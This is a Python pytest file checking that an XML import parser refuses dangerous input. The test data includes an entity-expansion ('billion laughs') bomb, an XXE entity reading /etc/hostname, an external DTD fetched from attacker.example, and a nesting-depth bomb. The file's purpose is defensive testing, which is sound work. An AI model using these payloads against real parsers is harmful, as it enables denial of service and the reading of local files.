"""XML that is read is never fetched from anywhere, and never grows."""

from __future__ import annotations

import pytest

from companion.domain.errors import FieldError
from companion.programme.importing.report import Report
from companion.programme.importing.tree import MOST_DEPTH, parsed

LAUGHS = b'<!DOCTYPE s [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)


@pytest.mark.parametrize(
    "content",
    [
        LAUGHS + b"]><s>&j;</s>",
        b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><s>&x;</s>',
        b'<!DOCTYPE s [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]><s/>',
        b"<a>" * (MOST_DEPTH + 1) + b"</a>" * (MOST_DEPTH + 1),
        b"<s><unclosed></s>",
        b"<s",
        b"",
        b'<?xml version="1.0" encoding="nonsense"?><s/>',
        b'<?xml version="1.0" encoding="base64"?><s/>',
        b"<s>\xff</s>",
    ],
)
def test_what_could_grow_or_reach_out_or_is_broken_is_refused_in_a_sentence(content: bytes) -> None:
    with pytest.raises(FieldError) as refusal:
        parsed(content, Report())

    assert list(refusal.value.fields) == ["file"]
    assert str(refusal.value).endswith("Export it again.")


def test_a_document_type_elsewhere_is_not_looked_at() -> None:
    report = Report()

    root = parsed(b'<!DOCTYPE s SYSTEM "http://nowhere.example/s.dtd"><s>a &eacute; b &unknown;</s>', report)

    assert root.text == "a é b &unknown;"
    assert [remark.field for remark in report.remarks()] == ["DOCTYPE"]


def test_what_surrounds_a_document_is_passed_over_and_lines_are_those_of_the_file() -> None:
    report = Report()

    root = parsed(b"\n\n<!-- cache -->\n<?xml version='1.0'?>\n<s>\n<x:t>one</x:t></s>\nrubbish", report)

    assert [(child.tag, child.text, child.line) for child in root.children] == [("t", "one", 6)]
    assert [remark.places for remark in report.remarks()] == [("line 7",)]
